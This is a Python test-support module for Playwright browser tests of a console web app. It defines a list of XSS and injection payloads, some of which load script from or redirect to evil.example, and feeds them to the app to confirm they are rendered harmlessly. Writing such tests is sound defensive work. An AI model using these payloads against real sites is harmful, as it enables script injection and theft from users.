"""A console in a real browser: what browser tests share. Texts that attack, and what would be heard if one of them acted."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from infra.servers.programs import COMMAND
from infra.servers.programs import browser as browser_here
from services.console.board import Board
from services.console.config import ConsoleSettings
from services.console.library import Library
from services.console.pages import build_app
from services.console.service import IN_FLIGHT, TOPICS, read
from services.scheduler import api
from services.scheduler.config import SchedulerConfig
from shared import bus
from shared.contracts.messages import RunStatus
from shared.telemetry import Health
from tests.patience import patient
from tests.ruling import rule
from tests.unit.console.conftest import World
from tests.unit.console.scheduled import practise
from tests.unit.console.serving import OPERATOR, access
from tests.watching import there

playwright = pytest.importorskip(
    "playwright.sync_api", reason="no playwright here: install playwright, axe-playwright-python"
)

# Each of these would set window.pwned, open a dialog, load something or change the page, if it were taken as markup.
ATTACKS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '"><style>*{display:none}</style><b a="',
    "'><a href='javascript:window.pwned=1' id=link>click</a>",
    "</textarea></title></pre><script src=//evil.example/x.js></script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{ ''.__class__ }} {% raw %} ${7*7} &lt;script&gt;",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \u202e\u2066fdp.exe\u2069 \x00\x08",
    "x" * 20_000,
)


ARGUMENTS = [
    "--no-sandbox",  # or it does not start as root; the pages are our own
    "--disable-dev-shm-usage",
    "--disable-features=PreloadTopChromeWebUI",  # menus that nobody opens: as much processor time as the pages take
]


def chromium() -> str:
    """Return the path of the machine's."""
    found = browser_here()
    return str(there(Path(found) if found else None, "Chromium", COMMAND))


@dataclasses.dataclass
class Console:
    """One that runs in a thread; `board` may be changed through `tell` while it does."""

    url: str
    tell: Callable[[Any], None]


@pytest.fixture
def console(world: World, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Console]:
    with served(world, tmp_path, scheduled="scheduled" in request.fixturenames) as there:
        yield there


@contextlib.contextmanager
def served(world: World, state: Path, *, scheduled: bool = False) -> Iterator[Console]:
    """A console that has read the world's messages. `scheduled`: with a scheduler, whose ledger is full of attacks."""
    settings, beside = ConsoleSettings(state=state), SchedulerConfig(state=state)
    if scheduled:
        practise(beside.ledger_url, ATTACKS[:-1])
    board, entry = Board(settings.console_attempts), access()
    for _, _, message in world.messages:
        board.apply(message)
    app = build_app(settings, board, Library(world.objects, settings.formats), entry)
    ready: threading.Event = threading.Event()
    place: dict[str, Any] = {}

    async def serve() -> None:
        async with contextlib.AsyncExitStack() as stack:
            if scheduled:
                await stack.enter_async_context(Health("scheduler", beside, api.app(beside)))
            health = await stack.enter_async_context(Health("console", settings, app))
            health.wait_on("nothing in particular")
            entry.bus = messages = bus.connect(settings.bus_url, client="console")
            reading = asyncio.create_task(read(messages.deliveries(TOPICS, None, IN_FLIGHT), board))
            known = [message for _, _, message in world.messages if isinstance(message, RunStatus)]
            ruling = asyncio.create_task(rule(messages, *known))
            place.update(url=health.url, loop=asyncio.get_running_loop(), stop=asyncio.Event())
            ready.set()
            await place["stop"].wait()
            reading.cancel()
            ruling.cancel()
            await messages.close()

    thread = threading.Thread(target=asyncio.run, args=(serve(),))
    thread.start()
    assert ready.wait(patient(30))
    yield Console(place["url"], lambda message: place["loop"].call_soon_threadsafe(board.apply, message))
    place["loop"].call_soon_threadsafe(place["stop"].set)
    thread.join(patient(30))


@pytest.fixture
def scheduled() -> None:
    """Asks for a scheduler beside the console, whose ledger is full of attacks."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    path = chromium()
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=path, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def visit(browser: Any, console: Console) -> Iterator[Callable[..., Any]]:
    with visiting(browser, console) as visit:
        yield visit


@contextlib.contextmanager
def visiting(browser: Any, console: Console) -> Iterator[Callable[..., Any]]:
    """visit(path, **options of the context): a page on which everything suspicious has been written down in `.heard`."""
    contexts = []

    def go(path: str, **options: Any) -> Any:
        context = browser.new_context(**options)
        context.set_default_timeout(60_000)  # a busy machine
        contexts.append(context)
        page = context.new_page()
        page.heard = heard = []
        page.on("console", lambda said: heard.append(said.text) if said.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: heard.append(str(error)))
        page.on("dialog", lambda dialog: (heard.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda r: heard.append(r.url) if not r.url.startswith(console.url) else None)
        page.goto(console.url + path)
        return page

    yield go
    for context in contexts:
        context.close()


def barriers(page: Any) -> list[tuple[str, str]]:
    """The serious ones, by axe-core."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
    found = axe.Axe().run(page).response["violations"]
    return [(v["id"], v["nodes"][0]["html"][:120]) for v in found if v["impact"] in ("serious", "critical")]


def sign_in(page: Any) -> None:
    page.get_by_role("link", name="Sign in", exact=True).first.click()
    page.get_by_label("Token").fill(OPERATOR)
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Sign out").wait_for()
